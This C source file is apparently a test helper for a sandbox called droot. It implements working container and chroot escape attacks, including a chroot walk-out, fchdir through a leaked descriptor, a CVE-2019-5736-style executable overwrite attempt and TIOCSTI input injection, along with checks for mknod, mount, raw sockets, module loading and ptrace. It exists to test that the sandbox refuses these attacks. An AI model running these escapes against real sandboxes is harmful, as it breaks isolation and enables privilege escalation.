/* Attacks on a droot sandbox, one per subcommand, compiled static by the tests and run
   inside the root. Each prints one line: what happened (ESCAPED/OK/...) or the errno
   text, and exits 0 when the attack worked, 1 when the kernel refused it. Nothing here
   writes to a host file: opens for writing append and write nothing. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <dirent.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <netinet/in.h>
#include <termios.h>
#include <unistd.h>

static int refused(const char *what) {
    printf("%s: %s\n", what, strerror(errno));
    return 1;
}

static int worked(const char *what) {
    printf("%s\n", what);
    return 0;
}

/* chroot into a subdirectory, walk up with .., chroot . : the classic escape. */
static int chroot_escape(const char *marker) {
    mkdir("/tmp/escape", 0755);
    if (chroot("/tmp/escape") != 0) return refused("chroot");
    for (int i = 0; i < 64; i++) chdir("..");
    if (chroot(".") != 0) return refused("chroot .");
    return access(marker, F_OK) == 0 ? worked("ESCAPED") : refused("marker");
}

/* a directory descriptor of the host, inherited through droot: fchdir out of the root. */
static int fchdir_escape(int fd, const char *marker_name) {
    if (fchdir(fd) != 0) return refused("fchdir");
    return access(marker_name, F_OK) == 0 ? worked("ESCAPED") : refused("marker");
}

static int open_for_writing(const char *path) {
    int fd = open(path, O_WRONLY | O_APPEND);
    if (fd < 0) return refused(path);
    close(fd);
    return worked("WRITABLE");
}

/* CVE-2019-5736: hold the executable of a process, kill it, reopen the file to write. */
static int exe_attack(pid_t pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_PATH);
    if (fd < 0) return refused(path);
    if (kill(pid, SIGKILL) != 0) return refused("kill");
    for (int i = 0; i < 500; i++) {  /* until its memory (and executable) is released */
        char stat_path[64], state = 0;
        snprintf(stat_path, sizeof stat_path, "/proc/%d/stat", pid);
        FILE *file = fopen(stat_path, "r");
        if (!file) break;
        if (fscanf(file, "%*d %*s %c", &state) != 1) state = 'Z';
        fclose(file);
        if (state == 'Z') break;
        usleep(10000);
    }
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    return open_for_writing(path);
}

static int tiocsti(void) {
    char c = ' ';
    if (ioctl(0, TIOCSTI, &c) != 0) return refused("TIOCSTI");
    /* the kernel reads only the low 32 bits of the request */
    if (syscall(SYS_ioctl, 0, (1UL << 32) | TIOCSTI, &c) != 0) return refused("TIOCSTI high");
    return worked("INJECTED");
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    const char *what = argc > 1 ? argv[1] : "";
    if (!strcmp(what, "chroot-escape") && argc == 3) return chroot_escape(argv[2]);
    if (!strcmp(what, "fchdir-escape") && argc == 4) return fchdir_escape(atoi(argv[2]), argv[3]);
    if (!strcmp(what, "open-write") && argc == 3) return open_for_writing(argv[2]);
    if (!strcmp(what, "exe-attack") && argc == 3) return exe_attack(atoi(argv[2]));
    if (!strcmp(what, "tiocsti")) return tiocsti();
    if (!strcmp(what, "mknod-block") && argc == 5) {
        if (mknod(argv[2], S_IFBLK | 0600, makedev(atoi(argv[3]), atoi(argv[4]))) != 0)
            return refused("mknod");
        return worked("CREATED");
    }
    if (!strcmp(what, "mount-tmpfs") && argc == 3) {
        if (mount("none", argv[2], "tmpfs", 0, NULL) != 0) return refused("mount");
        return worked("MOUNTED");
    }
    if (!strcmp(what, "remount-rw") && argc == 3) {
        if (mount("none", argv[2], NULL, MS_REMOUNT | MS_BIND, NULL) != 0) return refused("remount");
        return worked("REMOUNTED");
    }
    if (!strcmp(what, "raw-socket")) {
        if (socket(AF_INET, SOCK_RAW, IPPROTO_ICMP) < 0) return refused("socket");
        return worked("RAW");
    }
    if (!strcmp(what, "load-module")) {
        /* EBADF means the capability check passed and only the (absent) module failed */
        if (syscall(SYS_finit_module, -1, "", 0) != 0 && errno != EBADF) return refused("finit_module");
        return worked("PERMITTED");
    }
    if (!strcmp(what, "ptrace") && argc == 3) {
        pid_t pid = atoi(argv[2]);
        if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) != 0) return refused("ptrace");
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
        return worked("ATTACHED");
    }
    if (!strcmp(what, "fds")) {  /* the open descriptors, but the one reading the list */
        DIR *dir = opendir("/proc/self/fd");
        if (!dir) return refused("opendir");
        for (struct dirent *entry; (entry = readdir(dir));)
            if (entry->d_name[0] != '.' && atoi(entry->d_name) != dirfd(dir))
                printf("%s ", entry->d_name);
        printf("\n");
        return 0;
    }
    if (!strcmp(what, "euid")) return printf("euid=%d\n", geteuid()) < 0;
    fprintf(stderr, "usage: attack chroot-escape|fchdir-escape|open-write|exe-attack|tiocsti|"
                    "mknod-block|mount-tmpfs|remount-rw|raw-socket|load-module|ptrace|fds|euid ...\n");
    return 2;
}
